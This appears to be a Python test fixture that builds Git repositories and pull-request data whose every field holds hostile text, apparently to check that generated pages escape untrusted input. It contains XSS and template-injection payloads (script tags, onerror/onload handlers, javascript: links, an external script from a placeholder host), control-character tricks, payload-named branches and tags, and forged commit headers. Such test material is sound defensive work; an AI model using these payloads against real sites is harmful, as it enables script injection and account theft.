"""Registries with untrusted text in every field, author, message and branch that reaches a page."""

import json
from pathlib import Path

from tests.repository import CHARTER, Content, Repository, claim_path

# Each would do something if it were markup: write an element, an attribute, a link, a request or a template's code.
ATTACKS = (
    "<script>fetch('pwned')</script><img src=pwned onerror=fetch('pwned')>",
    "\"><svg onload=fetch('pwned')><a href=javascript:fetch('pwned')>x</a>",
    "' autofocus onfocus=fetch('pwned') x='",
    "</title></style></textarea></svg><script src=//pwned.example></script>",
    "{{ 7*7 }}{% include 'base.html' %}{# x #} &lt;script&gt; &#60;b&#62; ]]>-->",
    "javascript:fetch('pwned') https://pwned.example [x](javascript:1) ![y](//pwned.example/i.png)",
    "\u202eoverride\u2066 zero\u200bwidth \x1b[2J\x07 \x85 \u2028 \ufeff",
)
KEY = f"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI{'A' * 43}"
EVERYTHING = " ".join(ATTACKS)


def charter(text: str) -> str:
    """A charter that has the text wherever it takes one; JSON is YAML."""
    return json.dumps(
        {
            "mission": {"statement": text, "targets": [{"metric": text, "op": "gte", "value": 1, "unit": text}]},
            "capacity": 12,
            "orchestrator": 1,
            "time_zone": "America/Los_Angeles",
            "approvers": [{"handle": "@OWNER"}],
            "metrics": [{"name": text, "aliases": [f"{text} too"], "unit": text, "per": "day"}],
            "work": [
                {"name": text, "first": 1, "last": 50},
                {"name": f"{text} parts", "segments": [text, f"{text} more"]},
            ],
            "slots": [
                {"number": number, "title": text, "role": f"{text} {number}", **plan(text)} for number in (1, 2, 3)
            ],
        }
    )


def keyed(text: str) -> str:
    """The same charter, with the text as comment of every key; the keys are nobody's."""
    plan = json.loads(charter(text))
    for one in (*plan["approvers"], plan["slots"][0]):
        one["key"] = f"{KEY} {text}"
    return json.dumps(plan)


def odd_charter(text: str) -> str:
    """A charter that has the text also where handles, keys, zones, words and numbers stand."""
    slot = {"number": text, "title": text, "role": text, "key": text}
    odd = {"approvers": [{"handle": text, "key": text}], "slots": [slot], "time_zone": text, "capacity": text}
    return json.dumps({**json.loads(charter(text)), **odd, text: text})


def plan(text: str) -> dict[str, object]:
    """What a slot plans, and a claim may say too."""
    return {
        "scope": [{"work": f"{text} parts", "segments": [text]}],
        "schedule": [{"activity": text, "days": ["mon", "sun"], "start": "23:30", "end": "01:00"}],
    }


def claim(number: int, text: str) -> str:
    """A claim that has the text wherever it takes one."""
    return json.dumps(
        {
            "number": number,
            "role": f"{text} {number}",
            "goal": f"{text} 17",
            "targets": [{"metric": text, "op": "gte", "value": 17, "unit": text, "per": "day", "measured_by": text}],
            "session_id": f"session-{number}",
            "responsibilities": [text],
            **plan(text),
            "scope": [
                {"work": text, "first": number, "last": number + 3},
                {"work": f"{text} parts", "segments": [text]},
            ],
            "status": "REGISTERED",
            "timestamp": "2026-11-20T08:03:00Z",
            "owner": "github:1",
            "owner_login": text,
            "labels": {text: text},
        }
    )


def odd_claim(number: int, text: str) -> str:
    """A claim that has the text also where only names, keys, words and times may stand."""
    names = ("session_id", "runtime_id", "key", "owner", "status", "timestamp", "role", "goal")
    part = {"work": text, "first": text, "last": text}
    target = {"metric": text, "op": text, "value": text, "unit": text, "per": text}
    appointment = {"activity": text, "days": [text], "start": text, "end": text}
    odd = {"targets": [target], "scope": [part], "schedule": [appointment], "responsibilities": [text], text: text}
    return json.dumps({"number": number, **dict.fromkeys(names, text), **odd})


def hostile_everywhere(path: Path, text: str) -> tuple[Repository, str]:
    """The same with the text where no valid registry has it: names, records, branches, tags, a release, a pull request.

    With it comes GitHub's list of open pull requests, one from the fork of an account of that name.
    """
    repository = hostile(path, text)
    record = dict.fromkeys(("registry", "approved_by", "session_id", "timestamp", "week", "number"), text)
    records = ("approval", "broadcast", "activation", "acknowledgements/01")
    files: dict[str | bytes, Content] = {
        f"registry/consensus/{name}.yaml": json.dumps(record | {"delivered": [text]}) for name in records
    }
    repository.commit(
        "main", {**files, claim_path(8): odd_claim(8, text), claim_path(10): claim(10, text)}, message=text
    )
    repository.commit("main", {claim_path(10): None}, message=f"Release number 10: {text}")
    repository.commit("claim/09", {claim_path(9): odd_claim(9, text)}, "refs/heads/main^0", message=text)
    shown = "".join(filter(str.isprintable, text))
    with_key = json.dumps({**json.loads(claim(12, shown)), "key": f"{KEY[:-1]}B {shown}"})
    repository.commit("main", {CHARTER: keyed(shown), claim_path(12): with_key}, message=text)
    repository.commit("charter/odd", {CHARTER: odd_charter(text)}, "refs/heads/main^0", message=text)
    fork = repository.commit("fork", {claim_path(11): claim(11, text)}, "refs/heads/main^0", message=text)
    for ref in ("heads/claim/<svg/onload=fetch('pwned')>", 'heads/charter/"><b>', "tags/<script>alert(1)</script>"):
        repository.git("update-ref", f"refs/{ref}", fork)
    user = {"id": 1, "login": text}
    head = {"sha": fork, "ref": text, "label": f"{text}:{text}", "repo": {"full_name": text}}
    return repository, json.dumps([{"number": 7, "title": text, "body": text, "head": head, "user": user}])


def hostile(path: Path, text: str) -> Repository:
    """A registry where sessions, commits and proposals say nothing but this text."""
    repository = Repository(path)
    shown = "".join(filter(str.isprintable, text))  # a charter with other characters cannot be read, so has no pages
    repository.commit("main", {CHARTER: charter(shown)}, message=text)
    for number in (1, 2):
        repository.commit("main", {claim_path(number): claim(number, shown)}, message=text)
    repository.commit("main", {claim_path(4): claim(4, text)}, message=text)
    repository.commit("main", {claim_path(5): text.encode()}, message=text)
    repository.commit("main", {"registry/consensus/confirmation.yaml": f"registry: {json.dumps(text)}\n"}, message=text)
    repository.commit("claim/03", {claim_path(3): claim(3, shown)}, "refs/heads/main^0", message=text)
    repository.commit("claim/06", {claim_path(6): text.encode()}, "refs/heads/main^0", message=text)
    repository.commit("claim/07", {claim_path(7): claim(1, text)}, "refs/heads/main^0", message=text)
    repository.commit("record/x", {f"registry/{text[:40].replace('/', '')}": text}, "refs/heads/main^0", message=text)
    for branch in ("main", "claim/03"):
        authored(repository, branch, text)
    return repository


def authored(repository: Repository, branch: str, text: str) -> None:
    """Another commit on the branch whose author, committer and approval are the text; Git itself would tidy that up.

    That of a proposal has the text as its signature, too.
    """
    tree, parent = (repository.git("rev-parse", f"{branch}^{{tree}}"), repository.git("rev-parse", branch))
    name = text.replace("\n", " ").replace("\0", " ")
    signed = f"gpgsig {name}\n" if branch != "main" else ""
    people = f"author {name} <{name}> 1795164000 +0000\ncommitter {name} <{name}> 1795164000 +0000\n"
    content = f"tree {tree}\nparent {parent}\n{people}{signed}\n{text}\n\nApproved-by: {name}\n"
    words = ("hash-object", "-t", "commit", "-w", "--stdin", "--literally")
    oid = repository.git(*words, stdin=content.encode())
    repository.git("update-ref", f"refs/heads/{branch}", oid)
